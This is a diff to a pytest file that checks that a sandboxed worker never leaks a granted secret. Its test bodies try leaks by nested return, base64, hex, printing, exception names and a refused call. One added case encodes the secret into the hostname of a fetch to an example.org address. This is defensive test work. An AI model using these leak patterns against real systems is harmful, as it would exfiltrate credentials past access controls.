@@ -1,5 +1,6 @@
 """A secret reaches the one function that was granted it, in a real worker, and nothing of it comes out again."""
 
+import base64
 import json
 from collections.abc import AsyncIterator
 from pathlib import Path
@@ -28,7 +29,8 @@ async def call(here: Workspace, name: str) -> dict[str, Any]:
 
 WAYS_OUT = [
     pytest.param('return {"a": [self.secret("KEY")]}', id="a-nested-value"),
-    pytest.param('return base64.b64encode(b"user:" + self.secret("KEY").encode())', id="base64-in-bytes"),
+    pytest.param('return base64.b64encode(b"user:" + self.secret("KEY").encode()).decode()', id="base64"),
+    pytest.param('return [b"user:" + self.secret("KEY").encode()]', id="bytes"),
     pytest.param('return self.secret("KEY").encode().hex().upper()', id="hex"),
     pytest.param('print("it is", self.secret("KEY"))', id="printed"),
     pytest.param('print(json.dumps(self.secret("KEY"))[:-4], end="")', id="printed-and-cut"),
@@ -39,10 +41,19 @@ WAYS_OUT = [
         'type(self.secret("KEY"), (Exception,), {})\nraise type(self.secret("KEY"), (Exception,), {})', id="a-name"
     ),
     pytest.param('import os\nprint(self.secret("KEY"), flush=True)\nos._exit(3)', id="left-without-an-answer"),
-    pytest.param('self.fetch("http://localhost:1/" + self.secret("KEY"))', id="a-refused-fetch"),
+    pytest.param(
+        'self.fetch("http://" + self.secret("KEY").encode().hex() + ".example.org/")', id="a-host-that-is-not-granted"
+    ),
     pytest.param('self.call(self.secret("KEY"))', id="a-refused-call"),
-    pytest.param('self.secret(self.secret("KEY"))', id="a-name-that-is-the-value"),
 ]
+
+
+PIECES = (
+    *("7Qz", "3xY", "2Lm", "wk-7"),
+    KEY.encode().hex()[:12],
+    KEY.encode().hex()[:12].upper(),
+    base64.b64encode(b"user:" + KEY.encode()).decode()[8:16],
+)
 
 
 @pytest.mark.parametrize("body", WAYS_OUT)
@@ -50,7 +61,7 @@ async def test_nothing_of_it_comes_out_and_nothing_of_it_is_kept(here: Workspace
     await put(here, "leak", body, "KEY", network=("localhost:1",))
     found = json.dumps(outcome := await call(here, "leak"), ensure_ascii=False, default=str)
     assert outcome["outcome"] in ("returned", "raised", "killed")
-    assert not [piece for piece in ("7Qz", "3xY", "2Lm", "wk-7", KEY.encode().hex()[:12].upper()) if piece in found]
+    assert not [piece for piece in PIECES if piece in found]
     assert [*files_with("7Qz", here.root, config.parent.parent)] == []
 
 
